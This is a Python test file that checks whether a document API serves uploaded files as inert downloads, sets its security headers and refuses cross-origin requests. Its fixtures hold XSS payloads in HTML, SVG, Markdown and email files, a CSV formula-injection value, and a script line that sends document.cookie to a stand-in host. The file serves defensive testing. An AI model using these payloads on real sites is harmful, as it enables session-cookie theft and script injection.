"""What a browser makes of the API's answers: a document of somebody's is data, never a page or a script of ours."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from api.confined import HEADERS
from tests.browser_watch import FLAGS, Watch, chromium_path
from tests.small_service import SmallService, small_service

UNKNOWN = "0199aaaa-0000-7000-8000-000000000000"
SCRIPT = "pwn(1); document.title = 'pwned'; fetch('http://foreign.test:9/' + document.cookie);"
HOSTILE = {
    "Страница.html": f"<!doctype html><title>x</title><script>{SCRIPT}</script><img src=x onerror=pwn(2)>",
    "Рисунок.html": f'<svg xmlns="http://www.w3.org/2000/svg" onload="pwn(3)"><script>{SCRIPT}</script></svg>',
    "Сценарий.txt": f"/* Текст. */ {SCRIPT}",
    "Заметка.md": f"<script>{SCRIPT}</script>",
    "Таблица.csv": "=1;pwn(4)\n",
    "Письмо.eml": f"From: a@b.ru\nSubject: x\nContent-Type: text/html\n\n<script>{SCRIPT}</script>\n",
}


@pytest.fixture
def service(tmp_path: Path) -> Iterator[SmallService]:
    with small_service(tmp_path) as running:
        yield running


def test_every_answer_binds_the_browser_refusals_too(service: SmallService) -> None:
    paths = [
        (method.upper(), re.sub(r"{[^}]+}", UNKNOWN, path))
        for path, methods in service.app.openapi()["paths"].items()
        for method in methods
    ]
    assert len(paths) >= 30
    with service.client() as http:
        answers = [http.request(method, path) for method, path in [*paths, ("GET", "/nothing"), ("PUT", "/live")]]
    assert {answer.status_code for answer in answers} >= {200, 404, 405, 422}
    for answer in answers:
        assert {name: answer.headers.get(name) for name in HEADERS} == HEADERS, answer.url


def test_an_answer_that_a_bug_makes_binds_it_too(service: SmallService, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("api.routes.access.SessionOut.of", lambda _principal: 1 / 0)
    with service.client() as http:
        answer = http.get("/v1/session")
    assert answer.status_code == 500
    assert {name: answer.headers.get(name) for name in HEADERS} == HEADERS


@pytest.mark.parametrize(
    "told",
    [
        {"Origin": "http://foreign.test"},
        {"Origin": "null"},
        {"Origin": "http://127.0.0.1:1"},
        {"Host": "foreign.test"},
        {"Host": "["},
    ],
    ids=["another site", "a sandbox", "another port", "a name that leads here", "no name"],
)
def test_a_site_that_the_owner_looks_at_may_not_use_the_service_that_has_no_key(
    service: SmallService, told: dict[str, str]
) -> None:
    file = {"file": ("Подложное.txt", b"text")}
    own = {"Origin": service.url}
    with service.client() as http:
        assert http.post("/v1/documents", files=file, headers=told).status_code == 401
        assert http.get("/v1/documents", headers=told).status_code == 401
        assert http.get("/v1/documents", headers=own).json()["items"] == []
        assert http.post("/v1/documents", files=file, headers=own).status_code == 202


@pytest.fixture
def context():
    playwright = pytest.importorskip("playwright.sync_api", reason="needs the package playwright")
    path = chromium_path()
    if path is None:
        pytest.skip("needs Chromium (apt install chromium)")
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=path, args=FLAGS)
        made = browser.new_context(accept_downloads=True)
        made.set_default_timeout(60_000)
        yield made
        browser.close()


EMBEDDINGS = (
    "<iframe src={0}></iframe>",
    "<object data={0}></object>",
    "<embed src={0}>",
    "<script src={0}></script>",
    "<script type=module src={0}></script>",
    "<link rel=stylesheet href={0}>",
    "<svg><use href={0}#x></use></svg>",
    "<img src={0}>",
)


@pytest.mark.browser
def test_a_document_opened_or_embedded_runs_nothing_in_our_origin(service: SmallService, context) -> None:
    with service.client() as http:
        sent = [
            http.post("/v1/documents", files={"file": (name, text.encode())}).raise_for_status().json()[0]
            for name, text in HOSTILE.items()
        ]
    watch = Watch(context, {service.url.split("//")[1]})
    addresses = [f"{service.url}/v1/documents/{document['id']}/content" for document in sent]
    inside = "".join(one.format(address) for address in addresses for one in EMBEDDINGS)
    # As if somebody could already write markup, though no script of their own, into a page of our origin.
    context.route(
        f"{service.url}/ours", lambda route: route.fulfill(body=f"<!doctype html>{inside}", content_type="text/html")
    )
    page = context.new_page()
    for address in addresses:
        with page.expect_download() as downloading:
            page.evaluate("address => { location.href = address; }", address)
        assert downloading.value.suggested_filename in HOSTILE
    page.goto(f"{service.url}/ours", wait_until="domcontentloaded")
    page.wait_for_timeout(1500)

    assert (watch.ran, watch.asked) == ([], [])


@pytest.mark.browser
def test_the_same_text_as_a_page_of_an_origin_does_run(context) -> None:
    watch = Watch(context, {"control.test"})
    context.route(
        "http://control.test/", lambda route: route.fulfill(body=HOSTILE["Страница.html"], content_type="text/html")
    )
    page = context.new_page()
    page.goto("http://control.test/")
    page.wait_for_timeout(300)

    assert "pwn (1,)" in watch.ran
    assert watch.asked == ["http://foreign.test:9/"]
